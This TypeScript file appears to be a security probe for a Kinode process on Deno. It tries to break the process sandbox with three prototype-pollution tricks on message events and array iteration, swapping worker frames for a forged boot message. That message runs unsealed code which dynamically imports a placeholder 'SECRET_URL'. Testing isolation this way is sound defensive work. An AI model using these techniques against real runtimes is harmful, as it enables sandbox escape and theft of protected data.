// Threat: a script that gets between the kernel and its own worker. What comes out of the port is an event of Deno's and
// a list of frames: who is shown either, or puts another in its place, may begin anew with code that no loader has
// sealed, and that code can `import()` whatever the module loader reads. In a binary it reads without asking.
import { our, println } from "@kinode/process";

export const config = { on_exit: "None" } as const;

const scope = globalThis as unknown as Record<string, unknown>;
const { defineProperty } = Object;
const turn = () => new Promise((resolve) => setTimeout(resolve, 50));

/** What a boot asks of the global object, which the first one has taken away. */
function prepareForAnother(): void {
  const internal = Symbol();
  const core = { setReportExceptionCallback() {}, setUnhandledPromiseRejectionHandler() {} };
  scope.Deno = { internal, [internal]: { core } };
  Object.defineProperty = (on: never) => on;
  Reflect.deleteProperty = () => true;
  scope.reached = (what: string) => println(`REACHED ${what}`);
}

const words = ["im", "port"].join("");
const code = `
reached("its own code, which nobody has sealed");
for (const type of ["json", "text"]) {
  try {
    reached((await ${words}("SECRET_URL", { with: { type } })).default.slice(0, 20));
  } catch { /* Not by this type. */ }
}
`;

type Way = (boot: unknown[]) => () => void;

/** Each gets between, and returns how it leaves again. */
const ways: Record<string, Way> = {
  "a setter of an event's data"(boot) {
    const kept = new WeakMap<object, unknown>();
    defineProperty(MessageEvent.prototype, "data", {
      configurable: true,
      set(value) {
        if (Array.isArray(value)) println("SAW frames, by a setter");
        kept.set(this, Array.isArray(value) ? boot : value);
      },
      get() {
        return kept.get(this);
      },
    });
    return () => delete (MessageEvent.prototype as unknown as { data?: unknown }).data;
  },
  "a getter of an event's type"(boot) {
    const before = Object.getOwnPropertyDescriptor(Event.prototype, "type")!;
    defineProperty(Event.prototype, "type", {
      configurable: true,
      get(this: { data: unknown }) {
        if (Array.isArray(this.data)) println("SAW frames, by a getter");
        this.data = boot;
        return "message";
      },
    });
    return () => defineProperty(Event.prototype, "type", before);
  },
  "an iterator of lists"(boot) {
    const { values } = Array.prototype;
    Array.prototype[Symbol.iterator] = function* (this: unknown[]) {
      if (this.length > 0 && Array.isArray(this[0]) && this[0][0] === "Ping") {
        println("SAW frames, by an iterator");
        for (let at = 0; at < boot.length; at++) yield boot[at];
        return;
      }
      for (let at = 0; at < this.length; at++) yield this[at];
    } as never;
    return () => void (Array.prototype[Symbol.iterator] = values);
  },
};

export async function init() {
  prepareForAnother();
  const boot = [["Boot", our().toString(), code]];
  for (const name of Object.keys(ways)) {
    try {
      const leave = ways[name]!(boot);
      // The node asks for a sign of life within a second or two of anything that it is told.
      for (let i = 0; i < 60; i++) await turn();
      leave();
      println(`tried ${name}`);
    } catch (error) {
      println(`refused ${name}: ${(error as Error).message}`);
    }
  }
  println("is done");
}
